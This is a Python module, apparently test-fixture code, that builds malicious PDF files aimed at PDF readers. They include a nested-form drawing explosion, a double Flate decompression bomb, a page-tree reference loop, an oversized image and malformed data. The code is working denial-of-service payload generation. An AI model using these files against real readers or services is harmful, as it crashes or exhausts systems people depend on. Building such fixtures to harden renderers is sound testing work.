"""Files that attack a reader, written byte by byte."""

import zlib


def pdf(objects: dict[int, bytes]) -> bytes:
    """Return a PDF of numbered objects; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places.get(number, 0)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    return bytes(out)


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def one_page(
    content: bytes, *, resources: bytes = b"<< >>", more: bytes = b"", catalog: bytes = b""
) -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources %s %s >>"
        % (resources, more),
        4: stream(content),
    }


def nested_forms() -> bytes:
    """Each form draws the next one ten times: ten to the ninth drawings."""
    objects = one_page(b"/F10 Do " * 10, resources=b"<< /XObject << /F10 10 0 R >> >>")
    for level in range(10, 19):
        inner = b"/F%d Do " % (level + 1) * 10
        more = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F%d %d 0 R >> >>"
        objects[level] = stream(inner, more % (level + 1, level + 1))
    objects[19] = stream(b"0 0 m 9 9 l S", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return pdf(objects)


def double_bomb() -> bytes:
    """Flate within Flate: a kilobyte that unfolds to half a gigabyte."""
    once = zlib.compress(b" " * (512 * 1024 * 1024), 9)
    twice = zlib.compress(once, 9)
    objects = one_page(b"")
    objects[4] = stream(twice, b"/Filter [/FlateDecode /FlateDecode]")
    return pdf(objects)


def loose_lines(count: int = 60_000) -> bytes:
    steps = [f"{i % 590} {i % 830} m {i % 590 + 3} {i % 830} l S" for i in range(count)]
    return pdf(one_page("\n".join(steps).encode()))


def fine_grid(side: int = 170) -> bytes:
    step = 500 / side
    steps = [f"20 {20 + i * step:.2f} m 520 {20 + i * step:.2f} l S" for i in range(side + 1)]
    steps += [f"{20 + i * step:.2f} 20 m {20 + i * step:.2f} 520 l S" for i in range(side + 1)]
    return pdf(one_page("\n".join(steps).encode()))


def page_tree_loop() -> bytes:
    objects = one_page(b"")
    objects[2] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    return pdf(objects)


def thousand_pages() -> bytes:
    objects = one_page(b"")
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count 1000 >>" % (b"3 0 R " * 1000)
    return pdf(objects)


def giant_picture() -> bytes:
    objects = one_page(b"q 595 0 0 842 0 0 cm /I Do Q", resources=b"<< /XObject << /I 5 0 R >> >>")
    pixels = zlib.compress(b"\x00" * 1000)
    objects[5] = stream(
        pixels,
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Filter /FlateDecode",
    )
    return pdf(objects)


def dynamic_form() -> bytes:
    return pdf(one_page(b"", catalog=b"/NeedsRendering true /AcroForm << /XFA [] >>"))


def garbage() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\nstartxref\n9\n%%EOF\n"


ALL = {
    "nested_forms": nested_forms,
    "double_bomb": double_bomb,
    "loose_lines": loose_lines,
    "fine_grid": fine_grid,
    "page_tree_loop": page_tree_loop,
    "thousand_pages": thousand_pages,
    "giant_picture": giant_picture,
    "dynamic_form": dynamic_form,
    "garbage": garbage,
}
